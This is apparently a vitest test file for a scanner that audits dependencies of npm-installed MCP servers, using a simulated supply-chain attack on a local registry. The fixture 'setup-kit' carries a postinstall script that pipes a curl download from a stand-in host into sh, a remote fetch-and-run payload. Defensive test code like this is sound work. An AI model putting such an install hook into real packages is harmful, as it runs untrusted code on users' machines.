/** What stands below a server, through the command line: a registry on the loopback address, resolved by npm's own code. */
import { afterEach, describe, expect, it } from 'vitest'
import type { LoopbackPackage } from '../support/loopback-registry.js'
import { openStage, type Stage } from './stage.js'

const server = (version: string) => ({
  files: {
    'package.json': {
      name: 'mail-mcp',
      version,
      bin: 'index.js',
      license: 'MIT',
      dependencies: { 'http-lib': '^1.14.0' },
    },
    'index.js': "require('http-lib')\n",
  },
})
const library = (version: string, more: object = {}) => ({
  files: {
    'package.json': { name: 'http-lib', version, main: 'index.js', ...more },
    'index.js': 'exports.get = (url) => fetch(url)\n',
  },
})
const packages: Readonly<Record<string, LoopbackPackage>> = {
  'mail-mcp': { versions: { '1.0.0': server('1.0.0'), '1.0.1': server('1.0.1') } },
  'http-lib': { versions: { '1.14.0': library('1.14.0') } },
}

/** Hours before the stage's clock. */
const YESTERDAY = '2026-11-19T18:00:00Z'

function attack({ registry }: Stage): void {
  registry.publish('setup-kit', {
    versions: {
      '4.2.1': {
        publishedAt: YESTERDAY,
        files: {
          'package.json': { name: 'setup-kit', version: '4.2.1', scripts: { postinstall: 'node setup.js' } },
          'setup.js': "require('node:child_process').execSync('curl -s https://files.dropzone.invalid/run.sh | sh')\n",
        },
      },
    },
  })
  const infected = { ...library('1.14.1', { dependencies: { 'setup-kit': '^4.2.1' } }), publishedAt: YESTERDAY }
  registry.publish('http-lib', { versions: { '1.14.0': library('1.14.0'), '1.14.1': infected } })
}

describe('a package below a server', () => {
  let stage: Stage
  afterEach(() => stage.close())

  it('is found when an attack comes with it, under a server that is pinned and unchanged', async () => {
    stage = await openStage(packages)
    await stage.configure({ mail: ['-y', 'mail-mcp@1.0.1'] })
    const calm = await stage.run(['scan'])
    expect(calm.code, calm.stdout).toBe(0)
    expect(calm.stdout).toContain('depends on  1 package, the same as below 1.0.0')

    attack(stage)
    const { code, stdout } = await stage.run(['scan'], { columns: 120 })
    expect(code, stdout).toBe(1)
    expect(stdout).toContain('mail-mcp@1.0.1 › http-lib@1.14.1 › setup-kit@4.2.1')
    expect(stdout).toMatch(/critical +the package does something grave when it is installed/)
    expect(stdout).toContain('setup.js:1')

    const without = await stage.run(['scan', '--no-deps'])
    expect(without.code, without.stdout).toBe(0)
    expect(without.stdout).toContain('--no-deps')
  })

  it('is fetched and read once per machine', async () => {
    stage = await openStage(packages)
    attack(stage)
    await stage.configure({ mail: ['-y', 'mail-mcp@1.0.1'] })
    const first = await stage.run(['scan', '--json'])
    expect(stage.registry.count('tarball', '/setup-kit/-/setup-kit-4.2.1.tgz')).toBe(1)
    stage.registry.forgetRequests()
    const second = await stage.run(['scan', '--json'])
    expect(stage.registry.count('tarball')).toBe(0)
    expect(second.json().findings).toEqual(first.json().findings)
    const offline = await stage.run(['scan', '--json', '--offline'])
    expect(offline.json().findings).toEqual(first.json().findings)
  })

  it('that can not be resolved leaves the audit incomplete', async () => {
    stage = await openStage({ ...packages, 'http-lib': { versions: { '1.13.0': library('1.13.0') } } })
    await stage.configure({ mail: ['-y', 'mail-mcp@1.0.1'] })
    const { code, json } = await stage.run(['scan', '--json'])
    expect(code).toBe(2)
    expect(json().failures).toMatchObject([{ stage: 'resolve' }])
    expect(json().servers[0]).toMatchObject({ verdict: 'unknown', dependencies: null })
  })

  it('is shown by diff, with what the release moved', async () => {
    const newer = server('1.1.0')
    const moved = { ...newer.files['package.json'], dependencies: { 'http-lib': '^2.0.0', 'one-more': '^1.0.0' } }
    stage = await openStage({
      'mail-mcp': {
        versions: { '1.0.1': server('1.0.1'), '1.1.0': { files: { ...newer.files, 'package.json': moved } } },
      },
      'http-lib': { versions: { '1.14.0': library('1.14.0'), '2.0.0': library('2.0.0') } },
    })
    const { stdout } = await stage.run(['diff', 'mail-mcp@1.0.1', 'mail-mcp@1.1.0'], { columns: 100 })
    expect(stdout).toContain('depends on  2 packages; 1 added, 1 moved since 1.0.1')
    expect(stdout).toContain('+ one-more 1.0.0')
    expect(stdout).toContain('~ http-lib 1.14.0 → 2.0.0')
  })

  it('is compared with what npx installed here', async () => {
    stage = await openStage(packages)
    await stage.configure({ mail: ['-y', 'mail-mcp@1.0.1'] })
    const { npxFolderName } = await import('../../src/machine/npm-command.js')
    const folder = `.npm/_npx/${npxFolderName(['mail-mcp@1.0.1'])}`
    await stage.write(`${folder}/package.json`, { dependencies: { 'mail-mcp': '1.0.1' } })
    await stage.write(`${folder}/node_modules/mail-mcp/package.json`, {
      name: 'mail-mcp',
      version: '1.0.1',
      bin: 'index.js',
    })
    await stage.write(`${folder}/package-lock.json`, {
      lockfileVersion: 3,
      packages: {
        '': { dependencies: { 'mail-mcp': '1.0.1' } },
        'node_modules/mail-mcp': { version: '1.0.1', dependencies: { 'http-lib': '^1.14.0' } },
        'node_modules/http-lib': { version: '1.14.0' },
      },
    })
    attack(stage)
    const { servers, findings } = (await stage.run(['scan', '--json'])).json()
    expect(servers[0]?.dependencies).toMatchObject({
      baseline: 'cache',
      changes: [
        { change: 'moved', name: 'http-lib', from: { version: '1.14.0' }, to: { version: '1.14.1' } },
        { change: 'added', name: 'setup-kit', path: ['mail-mcp@1.0.1', 'http-lib@1.14.1', 'setup-kit@4.2.1'] },
      ],
    })
    expect(findings.map(({ severity }) => severity)).toContain('critical')
  })
})
